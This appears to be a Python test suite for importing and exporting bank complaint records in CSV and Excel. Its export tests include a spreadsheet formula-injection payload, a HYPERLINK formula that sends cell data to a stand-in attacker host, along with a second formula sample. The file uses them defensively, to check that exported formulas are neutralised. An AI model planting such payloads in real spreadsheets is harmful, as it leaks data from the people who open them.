"""Complaint import and export: DESIGN.md's columns, invariant 8, issue 5's bad
input, and formula-looking summaries made inert."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from core.imports.pipeline import run_import
from incentives import services
from incentives.models import Complaint
from tests.incentives.conftest import local, snapshot

EN_HEADER = (
    "reference_no,received_at,channel,category,department_code,"
    "responsible_employee_no,handler_employee_no,status,resolved_at,outcome,"
    "staff_at_fault,customer_satisfied,summary"
)
ZH_HEADER = (
    "投诉编号,受理时间,渠道,类别,部门编码,责任人工号,处理人工号,状态,办结时间,"
    "处理结果,员工责任,客户满意,摘要"
)


def csv_bytes(*lines: str, encoding: str = "utf-8") -> bytes:
    return ("\n".join(lines) + "\n").encode(encoding)


def errors_of(report):
    return [(e.row, e.column, e.message) for e in report.sorted_errors()]


def assert_nothing_written(before, report):
    assert not report.ok
    assert not report.committed
    assert snapshot() == before


@pytest.fixture
def staff(learner, other_learner, hr):
    """L001 at O1, L002 at O3, H001 handles complaints."""
    return learner, other_learner, hr


@pytest.fixture
def three_complaints_csv(staff):
    return csv_bytes(
        EN_HEADER,
        "TS-001,2026-10-03 09:12,phone,收费,O1,L001,H001,closed,2026-10-08 16:00,"
        "upheld,是,否,客户手机13812345678反映被多收手续费",
        "TS-002,2026/10/05,letter,理财产品,O3,,H001,open,,,否,,"
        '"客户来信，卡号6222 0212 3456 1234，要求说明收益"',
        "TS-003,2026年10月7日,regulator,征信异议,S1,L002,,closed,2026年10月20日,"
        "not_upheld,N,Y,监管转办",
    )


def test_a_valid_file_creates_complaints(bank, staff, three_complaints_csv):
    learner, other_learner, hr = staff
    report = run_import("complaints", three_complaints_csv, filename="ts.csv")

    assert report.ok, report.as_text()
    assert (report.new, report.updated, report.unchanged) == (3, 0, 0)
    first = Complaint.objects.get(reference_no="TS-001")
    assert first.received_at == local(2026, 10, 3, 9, 12)
    assert first.deadline_at == local(2026, 10, 18, 9, 12)
    assert (first.channel, first.category, first.department) == (
        "phone",
        "收费",
        bank.o1,
    )
    assert (first.responsible_staff, first.handler) == (learner, hr)
    assert (first.status, first.resolved_at, first.outcome) == (
        "closed",
        local(2026, 10, 8, 16, 0),
        "upheld",
    )
    assert first.staff_at_fault is True and first.customer_satisfied is False
    assert first.summary == "客户手机138****5678反映被多收手续费"
    second = Complaint.objects.get(reference_no="TS-002")
    assert second.received_at == local(2026, 10, 5)
    assert second.responsible_staff is None and second.customer_satisfied is None
    assert second.summary == "客户来信，卡号6222 **** **** 1234，要求说明收益"
    third = Complaint.objects.get(reference_no="TS-003")
    assert third.resolved_at == local(2026, 10, 20)
    assert (third.staff_at_fault, third.customer_satisfied) == (False, True)


def test_chinese_headers_and_chinese_code_labels(bank, staff):
    data = csv_bytes(
        ZH_HEADER,
        "TS-101,2026-10-03 09:12,电话,收费,O1,L001,,已办结,2026-10-04 10:00,成立,是,是,"
        "甲",
        "TS-102,2026-10-03 09:12,信函,,O1,,,处理中,,,,,乙",
        "TS-103,2026-10-03 09:12,来访,,O1,,,已办结,2026-10-04 10:00,部分成立,否,否,丙",
        "TS-104,2026-10-03 09:12,网络,,O1,,,已办结,2026-10-04 10:00,不成立,0,1,丁",
        "TS-105,2026-10-03 09:12,监管转办,,O1,,,处理中,,,false,,戊",
    )
    report = run_import("complaints", data, filename="投诉台帐.csv")
    assert report.ok, report.as_text()
    assert sorted(
        Complaint.objects.values_list("reference_no", "channel", "status", "outcome")
    ) == [
        ("TS-101", "phone", "closed", "upheld"),
        ("TS-102", "letter", "open", ""),
        ("TS-103", "visit", "closed", "partly_upheld"),
        ("TS-104", "online", "closed", "not_upheld"),
        ("TS-105", "regulator", "open", ""),
    ]


@pytest.mark.parametrize("encoding", ["gb18030", "gbk", "utf-8-sig"])
def test_encodings_are_detected(bank, staff, encoding):
    data = csv_bytes(
        ZH_HEADER,
        "TS-201,2026-10-03 09:12,电话,服务态度,O1,L001,,处理中,,,否,,"
        "客户反映柜员态度生硬，联系电话0571-88886666",
        encoding=encoding,
    )
    report = run_import("complaints", data, filename="ts.csv")
    assert report.ok, report.as_text()
    complaint = Complaint.objects.get(reference_no="TS-201")
    assert complaint.category == "服务态度"
    assert complaint.summary == "客户反映柜员态度生硬，联系电话0571-****6666"


def xlsx_bytes(rows) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_xlsx_with_excel_date_cells(bank, staff):
    data = xlsx_bytes(
        [
            ZH_HEADER.split(","),
            [
                "TS-301",
                dt.datetime(2026, 10, 3, 9, 12),
                "电话",
                "收费",
                "O1",
                "L001",
                None,
                "已办结",
                dt.datetime(2026, 10, 8, 16, 0),
                "成立",
                True,
                False,
                "身份证110101199003071234",
            ],
            [
                "TS-302",
                46300.5,  # an Excel serial number: 2026-10-05 12:00
                "网络",
                None,
                "O3",
                None,
                None,
                "处理中",
                None,
                None,
                None,
                None,
                None,
            ],
        ]
    )
    report = run_import("complaints", data, filename="ts.xlsx")
    assert report.ok, report.as_text()
    first = Complaint.objects.get(reference_no="TS-301")
    assert first.received_at == local(2026, 10, 3, 9, 12)
    assert first.resolved_at == local(2026, 10, 8, 16, 0)
    assert first.summary == "身份证110101********1234"
    assert Complaint.objects.get(reference_no="TS-302").received_at == local(
        2026, 10, 5, 12, 0
    )


def test_reimporting_the_same_file_changes_nothing(bank, three_complaints_csv):
    run_import("complaints", three_complaints_csv)
    before = snapshot()
    report = run_import("complaints", three_complaints_csv)
    assert report.ok
    assert (report.new, report.updated, report.unchanged) == (0, 0, 3)
    assert snapshot() == before


def test_changed_rows_update_the_complaint_and_its_deadline(bank, three_complaints_csv):
    run_import("complaints", three_complaints_csv)
    report = run_import(
        "complaints",
        csv_bytes(
            EN_HEADER,
            "TS-002,2026-10-06 08:00,letter,理财产品,O3,,H001,closed,2026-10-10 09:00,"
            "partly_upheld,否,是,已答复",
        ),
    )
    assert report.ok, report.as_text()
    assert (report.new, report.updated) == (0, 1)
    complaint = Complaint.objects.get(reference_no="TS-002")
    assert complaint.deadline_at == local(2026, 10, 21, 8, 0)
    assert (complaint.status, complaint.outcome, complaint.summary) == (
        "closed",
        "partly_upheld",
        "已答复",
    )
    assert report.changes[0].fields["status"] == ["open", "closed"]


def test_an_import_keeps_what_hr_recorded_in_the_admin(bank, hr, three_complaints_csv):
    run_import("complaints", three_complaints_csv)
    complaint = Complaint.objects.get(reference_no="TS-002")
    services.complaint_update(complaint=complaint, topic="financial_knowledge")
    services.complaint_extend(complaint=complaint, reason="情况复杂", by=hr.user)

    report = run_import("complaints", three_complaints_csv)

    assert report.unchanged == 3
    complaint.refresh_from_db()
    assert complaint.topic == "financial_knowledge"
    assert complaint.deadline_at == local(2026, 11, 4)  # 30 days


def test_dry_run_writes_nothing(bank, three_complaints_csv):
    before = snapshot()
    report = run_import("complaints", three_complaints_csv, dry_run=True)
    assert report.ok and report.new == 3
    assert not report.committed
    assert snapshot() == before


# --- bad input: readable report, nothing written -------------------------------------


GOOD_ROW = "TS-900,2026-10-03 09:12,phone,收费,O1,L001,H001,open,,,否,,正常"


@pytest.mark.parametrize(
    "row, expected",
    [
        (
            "TS-901,2026-10-03 09:12,phone,,O1,L999,,open,,,否,,x",
            [(3, "responsible_employee_no", "“L999” is not a known employee number.")],
        ),
        (
            "TS-901,2026-10-03 09:12,phone,,O1,,X42,open,,,否,,x",
            [(3, "handler_employee_no", "“X42” is not a known employee number.")],
        ),
        (
            "TS-901,2026-10-03 09:12,phone,,NOPE,,,open,,,否,,x",
            [(3, "department_code", "“NOPE” is not a known department code.")],
        ),
        (
            "TS-901,2026-10-03 09:12,phone,,O1,,,closed,2026-10-02 09:00,upheld,否,,x",
            [(3, "resolved_at", (services.ERROR_RESOLVED_BEFORE_RECEIVED))],
        ),
        (
            "TS-901,2026-10-03 09:12,phone,,O1,,,open,,upheld,否,,x",
            [(3, "outcome", (services.ERROR_OUTCOME_WITHOUT_RESOLUTION))],
        ),
        (
            "TS-901,2026-10-03 09:12,phone,,O1,,,closed,,,否,,x",
            [
                (3, "outcome", (services.ERROR_CLOSED_WITHOUT_OUTCOME)),
                (3, "resolved_at", (services.ERROR_CLOSED_WITHOUT_RESOLUTION)),
            ],
        ),
        (
            "TS-901,2026-10-03 09:12,phone,,O1,,,open,2026-10-05 09:00,,否,,x",
            [(3, "status", (services.ERROR_RESOLVED_BUT_OPEN))],
        ),
        (
            "TS-901,2026-10-03 09:12,phone,,O1,,,open,,,是,,x",
            [(3, "staff_at_fault", (services.ERROR_FAULT_WITHOUT_STAFF))],
        ),
        (
            "TS-901,2099-10-03 09:12,phone,,O1,,,open,,,否,,x",
            [(3, "received_at", (services.ERROR_RECEIVED_IN_FUTURE))],
        ),
        (
            "TS-901,2026-10-03 09:12,fax,,O1,,,open,,,否,,x",
            [
                (
                    3,
                    "channel",
                    "“fax” is not one of the allowed values "
                    "(phone、letter、visit、online、regulator).",
                )
            ],
        ),
        (
            "TS-901,2026-02-30,phone,,O1,,,open,,,否,,x",
            [(3, "received_at", "“2026-02-30” is not a date that exists.")],
        ),
        (
            "TS-901,2026-10-03 09:12,phone,,O1,,,open,,,maybe,,x",
            [
                (
                    3,
                    "staff_at_fault",
                    "“maybe” is not a yes/no value; use 是/否, true/false, 1/0 or Y/N.",
                )
            ],
        ),
        (
            "TS-900,2026-10-04 09:12,phone,,O1,,,open,,,否,,x",
            [(3, "reference_no", "“TS-900” already appears in row 2 of this file.")],
        ),
    ],
)
def test_bad_rows_are_reported_with_row_and_column(bank, staff, row, expected):
    expected = [(r, column, str(message)) for r, column, message in expected]
    before = snapshot()
    report = run_import("complaints", csv_bytes(EN_HEADER, GOOD_ROW, row))
    assert_nothing_written(before, report)
    assert errors_of(report) == expected


def test_errors_name_the_columns_as_the_file_spells_them(bank, staff):
    before = snapshot()
    report = run_import(
        "complaints",
        csv_bytes(ZH_HEADER, "TS-901,2026-10-03 09:12,电话,,O1,无此人,,已办结,,,否,,x"),
    )
    assert_nothing_written(before, report)
    assert errors_of(report) == [
        (2, "责任人工号", "“无此人” is not a known employee number.")
    ]


def test_every_bad_row_is_reported_and_good_rows_are_not_written(bank, staff):
    before = snapshot()
    report = run_import(
        "complaints",
        csv_bytes(
            EN_HEADER,
            GOOD_ROW,
            "TS-902,2026-10-03 09:12,phone,,ZZ,,,open,,,否,,x",
            "TS-903,2026-10-03 09:12,phone,,O1,,,open,,,否,,x",
            "TS-904,2026-10-03 09:12,phone,,O1,,,open,,upheld,否,,x",
        ),
    )
    assert_nothing_written(before, report)
    assert [(row, column) for row, column, _m in errors_of(report)] == [
        (3, "department_code"),
        (5, "outcome"),
    ]
    assert report.invalid_rows == 2


def test_missing_required_columns_and_cells(bank, staff):
    before = snapshot()
    report = run_import("complaints", csv_bytes("投诉编号,渠道", "TS-1,电话"))
    assert_nothing_written(before, report)
    assert errors_of(report) == [
        (
            1,
            "",
            "Required columns are missing: 受理时间 (received_at)、部门编码 "
            "(department_code)、状态 (status).",
        )
    ]
    report = run_import(
        "complaints", csv_bytes(EN_HEADER, ",2026-10-03,phone,,O1,,,open,,,,,x")
    )
    assert errors_of(report) == [(2, "reference_no", "This cell is required.")]


# --- cost ---------------------------------------------------------------------------


def _rows(count: int, start: int = 0) -> bytes:
    numbers = ["L001", "L002", "H001", ""]
    lines = [EN_HEADER] + [
        f"TS-{start + i:06d},2026-10-03 09:12,phone,,O{1 + i % 3},"
        f"{numbers[i % 4]},{numbers[(i + 1) % 4]},open,,,否,,客户来电{i}"
        for i in range(count)
    ]
    return csv_bytes(*lines)


def _kinds(context) -> tuple[int, int]:
    """(reads, multi-row writes) among the captured queries."""
    writes = sum(
        q["sql"].startswith(("INSERT", "UPDATE")) for q in context.captured_queries
    )
    return len(context.captured_queries) - writes, writes


def test_queries_do_not_grow_with_the_number_of_rows(bank, staff, settings):
    """Lookups are per chunk, not per row; rows are written in multi-row
    statements (SQLite caps the parameters of one statement, hence a few)."""
    settings.IMPORT_CHUNK_ROWS = 1000
    with CaptureQueriesContext(connection) as small:
        assert run_import("complaints", _rows(10)).ok
    with CaptureQueriesContext(connection) as large:
        assert run_import("complaints", _rows(300, start=1000)).ok
    small_reads, small_writes = _kinds(small)
    large_reads, large_writes = _kinds(large)
    assert large_reads == small_reads
    assert small_writes == 1 and large_writes <= 300 // 25

    with CaptureQueriesContext(connection) as reimport:
        assert run_import("complaints", _rows(300, start=1000)).unchanged == 300
    reimport_reads, reimport_writes = _kinds(reimport)
    # (PostgreSQL resets the id sequence after creating rows: one read less here.)
    assert reimport_reads <= small_reads and reimport_writes == 0

    changed = _rows(300, start=1000).replace(b"2026-10-03 09:12", b"2026-10-04 09:12")
    with CaptureQueriesContext(connection) as update:
        assert run_import("complaints", changed).updated == 300
    update_reads, update_writes = _kinds(update)
    assert update_reads <= small_reads and update_writes <= 300 // 25


# --- export -------------------------------------------------------------------------


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.fixture
def exported_complaints(make_complaint, learner, hr):
    received = timezone.localtime().replace(second=0, microsecond=0) - dt.timedelta(
        days=10
    )
    make_complaint(
        reference_no="TS-E1",
        received_at=received,
        responsible_staff=learner,
        handler=hr,
        status=Complaint.Status.CLOSED,
        resolved_at=received + dt.timedelta(days=2, seconds=37),
        outcome=Complaint.Outcome.UPHELD,
        staff_at_fault=True,
        customer_satisfied=True,
        summary=HYPERLINK,
    )
    make_complaint(reference_no="TS-E2", received_at=received, summary="-1+1 @SUM(A1)")
    make_complaint(reference_no="TS-E3", received_at=received, category="征信异议")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_changes_nothing(exported_complaints, tmp_path, fmt):
    path = tmp_path / f"complaints.{fmt}"
    call_command("export_data", "complaints", "-o", str(path), stdout=io.StringIO())
    before = snapshot()

    report = run_import("complaints", path.read_bytes(), filename=path.name)

    assert report.ok, report.as_text()
    assert (report.new, report.updated, report.unchanged) == (0, 0, 3)
    assert snapshot() == before


def test_csv_export_neutralises_formulas(exported_complaints, tmp_path):
    path = tmp_path / "complaints.csv"
    call_command("export_data", "complaints", "-o", str(path), stdout=io.StringIO())
    rows = list(csv.DictReader(io.StringIO(path.read_text("utf-8-sig"))))
    summaries = {row["reference_no"]: row["summary"] for row in rows}
    assert summaries["TS-E1"] == "'" + HYPERLINK
    assert summaries["TS-E2"] == "'-1+1 @SUM(A1)"
    assert list(rows[0]) == EN_HEADER.split(",")


def test_xlsx_export_keeps_formulas_as_text(exported_complaints, tmp_path):
    path = tmp_path / "complaints.xlsx"
    call_command("export_data", "complaints", "-o", str(path), stdout=io.StringIO())
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(path).active
    header = [c.value for c in sheet[1]]
    summary_column = header.index("summary")
    cells = {row[0].value: row[summary_column] for row in sheet.iter_rows(min_row=2)}
    assert cells["TS-E1"].value == HYPERLINK
    assert cells["TS-E1"].data_type == "s"


def test_import_data_command_exit_status(bank, staff, tmp_path, capsys):
    good = tmp_path / "good.csv"
    good.write_bytes(csv_bytes(EN_HEADER, GOOD_ROW))
    call_command("import_data", "complaints", str(good), "--dry-run")
    assert "试运行：未写入任何数据。" in capsys.readouterr().out  # zh-hans by default
    assert not Complaint.objects.exists()

    bad = tmp_path / "bad.csv"
    bad.write_bytes(
        csv_bytes(EN_HEADER, "TS-901,2026-10-03 09:12,phone,,O1,L999,,open,,,否,,x")
    )
    with pytest.raises(SystemExit) as exit_info:
        call_command("import_data", "complaints", str(bad))
    assert exit_info.value.code == 1
    assert "L999" in capsys.readouterr().out
    assert not Complaint.objects.exists()
